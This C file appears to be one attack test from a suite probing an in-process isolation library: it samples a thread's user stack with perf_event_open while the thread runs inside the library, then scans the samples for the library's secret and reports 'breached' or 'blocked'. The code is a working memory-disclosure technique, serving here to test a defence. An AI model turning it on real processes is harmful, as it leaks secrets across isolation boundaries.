/* A sampling perf event on a thread that is inside the library: each
 * sample copies the thread's user stack, which is then the library's
 * (its domain stack), into a buffer the application reads. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <linux/perf_event.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#define STACK_BYTES 8192
#define DATA_PAGES 64

static _Atomic pid_t holder;

static void *hold(void *unused)
{
    atomic_store(&holder, (pid_t)syscall(SYS_gettid));
    vault_hold(1500);
    return NULL;
}

/* Looks for the secret in every PERF_RECORD_SAMPLE's stack copy. */
static int find_secret(const uint8_t *data, uint64_t head, uint64_t size)
{
    for (uint64_t at = 0; at + sizeof(struct perf_event_header) <= head;) {
        const struct perf_event_header *h = (const void *)(data + at % size);
        if (h->size == 0 || at % size + h->size > size)
            break; /* (wrapped records are skipped) */
        if (h->type == PERF_RECORD_SAMPLE) {
            uint64_t n;
            memcpy(&n, (const uint8_t *)h + sizeof *h, 8);
            const uint8_t *stack = (const uint8_t *)h + sizeof *h + 8;
            for (uint64_t i = 0; i + VAULT_SECRET_LEN <= n && i < STACK_BYTES; i += 8)
                if (vault_matches(VAULT_DATA, stack + i))
                    return 1;
        }
        at += h->size;
    }
    return 0;
}

int main(void)
{
    vault_open();
    pthread_t t;
    pthread_create(&t, NULL, hold, NULL);
    while (!atomic_load(&holder))
        ;
    struct perf_event_attr a = {
        .type = PERF_TYPE_SOFTWARE, .size = sizeof a, .config = PERF_COUNT_SW_TASK_CLOCK,
        .sample_period = 2000000, .sample_type = PERF_SAMPLE_STACK_USER, .sample_stack_user = STACK_BYTES,
        .exclude_kernel = 1, .exclude_hv = 1,
    };
    int fd = (int)syscall(SYS_perf_event_open, &a, atomic_load(&holder), -1, -1, 0);
    if (fd < 0) 
        blocked_errno("perf_event_open");
    size_t page = 4096;
    uint8_t *ring = mmap(NULL, (1 + DATA_PAGES) * page, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (ring == MAP_FAILED)
        blocked("the sample buffer cannot be mapped");
    pthread_join(t, NULL);
    struct perf_event_mmap_page *meta = (void *)ring;
    uint64_t head = __atomic_load_n(&meta->data_head, __ATOMIC_ACQUIRE);
    if (find_secret(ring + page, head, DATA_PAGES * page))
        breached("read the library's secret from a sample of its stack");
    blocked("no sample held the secret");
}
